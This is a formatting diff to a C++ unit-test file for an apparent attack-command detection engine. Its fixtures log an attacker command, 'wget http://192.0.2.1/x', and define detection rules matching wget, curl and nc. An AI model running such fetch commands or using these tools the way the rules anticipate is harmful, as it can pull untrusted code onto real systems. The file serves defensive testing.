@@ -84,16 +84,18 @@ public:
 
 std::string line(std::string const& id, std::string const& text = "wget http://192.0.2.1/x") {
     return R"({"source_kind":"command","source_id":")" + id +
-        R"(","attacker_uuid":"a-long-name-of-an-attacker","session_id":"a session","payload":{"command_text":")" + text + "\"}}\n";
+        R"(","attacker_uuid":"a-long-name-of-an-attacker","session_id":"a session","payload":{"command_text":")" +
+        text + "\"}}\n";
 }
 
 rule_snapshot some_rules() {
     rule_snapshot snapshot;
     snapshot.revision = 1;
-    for (auto const& rule : {test::rule_matching("{pattern: wget}", "R1"), test::rule_matching("{pattern: 'w.*t\\b'}", "R2"),
-                             test::rule_matching("{window: {of: {pattern: wget}, count: {at_least: 3}, within: 5m, "
-                                                 "group_by: [session_id], repeat: true}}",
-                                                 "R3")})
+    for (auto const& rule :
+         {test::rule_matching("{pattern: wget}", "R1"), test::rule_matching("{pattern: 'w.*t\\b'}", "R2"),
+          test::rule_matching("{window: {of: {pattern: wget}, count: {at_least: 3}, within: 5m, "
+                              "group_by: [session_id], repeat: true}}",
+                              "R3")})
         snapshot.rules.push_back(std::make_shared<compiled_rule>(rule, rule_state{}));
     return snapshot;
 }
@@ -260,9 +262,10 @@ BOOST_AUTO_TEST_CASE(tags_without_memory_are_stored_by_the_next_attempt) {
 BOOST_AUTO_TEST_CASE(a_change_without_memory_leaves_the_rules_as_they_were) {
     auto const added = test::rule_matching("{pattern: curl}", "R9");
     auto const replaced = test::rule_matching("{pattern: nc}", "R1");
-    std::vector<rule_change> const changes{rule_change(2, "R9", added), rule_change(2, "R1", replaced),
-                                           rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason")),
-                                           rule_change(2, "R2", std::shared_ptr<rule_definition const>())};
+    std::vector<rule_change> const changes{
+        rule_change(2, "R9", added), rule_change(2, "R1", replaced),
+        rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason")),
+        rule_change(2, "R2", std::shared_ptr<rule_definition const>())};
     for (auto const& change : changes) {
         auto const allocations = at_every_allocation([&](long n, bool& happened) {
             engine rules;
@@ -316,8 +319,9 @@ BOOST_AUTO_TEST_CASE(a_reload_without_memory_leaves_the_rules_as_they_were) {
 }
 
 BOOST_AUTO_TEST_CASE(a_follower_without_memory_for_a_change_catches_up) {
-    std::vector<rule_change> const changes{rule_change(2, "R9", test::rule_matching("{pattern: curl}", "R9")),
-                                           rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason"))};
+    std::vector<rule_change> const changes{
+        rule_change(2, "R9", test::rule_matching("{pattern: curl}", "R9")),
+        rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason"))};
     for (auto const& change : changes) {
         auto const allocations = at_every_allocation([&](long n, bool& happened) {
             store_of_one_change store(change);
@@ -362,7 +366,8 @@ BOOST_AUTO_TEST_CASE(an_announcement_without_memory_is_counted_and_costs_no_othe
     auto const allocations = at_every_allocation([&](long n, bool& happened) {
         broker publisher;
         bus listeners;
-        rule_announcer announcer(loop.get_executor(), time, listeners, &publisher, [](std::string const&) {}, [] { return 0.5; });
+        rule_announcer announcer(
+            loop.get_executor(), time, listeners, &publisher, [](std::string const&) {}, [] { return 0.5; });
         task_group tasks(loop.get_executor());
         tasks.spawn("announcer", announcer.run());
         time.settle();
